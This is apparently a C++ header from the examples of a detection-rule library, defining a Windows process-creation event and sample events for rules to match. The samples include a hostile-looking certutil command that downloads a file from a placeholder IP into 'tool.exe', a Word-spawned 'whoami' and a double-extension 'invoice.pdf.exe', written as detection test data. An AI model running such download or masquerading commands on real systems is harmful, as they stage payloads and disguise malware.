// SPDX-License-Identifier: BSL-1.0
#pragma once

#include <varsigma/event/event_traits.hpp>
#include <varsigma/event/sources.hpp>

#include <string>
#include <vector>

struct process_event {
    std::string image, parent_image, command_line, original_file_name, user;
};

template <>
struct varsigma::event_traits<process_event> {
    static constexpr auto source = varsigma::sources::windows_process_creation;
    static constexpr auto fields = varsigma::fields(
        varsigma::field<"Image", &process_event::image>, varsigma::field<"ParentImage", &process_event::parent_image>,
        varsigma::field<"CommandLine", &process_event::command_line>,
        varsigma::field<"OriginalFileName", &process_event::original_file_name>,
        varsigma::field<"User", &process_event::user>);
};

/// What the examples match.
inline std::vector<process_event> sample_events() {
    return {
        {R"(C:\Windows\System32\cmd.exe)", R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
         "cmd /c whoami", "Cmd.Exe", "bob"},
        {R"(C:\Users\bob\Downloads\invoice.pdf.exe)", R"(C:\Windows\explorer.exe)", "invoice.pdf.exe", "tool.exe",
         "bob"},
        {R"(C:\Windows\System32\certutil.exe)", R"(C:\Windows\System32\cmd.exe)",
         "certutil /urlcache /f http://192.0.2.44/tool.txt tool.exe", "CertUtil.exe", "carol"},
        {R"(C:\Windows\System32\notepad.exe)", R"(C:\Windows\explorer.exe)", "notepad.exe notes.txt", "NOTEPAD.EXE",
         "alice"},
    };
}
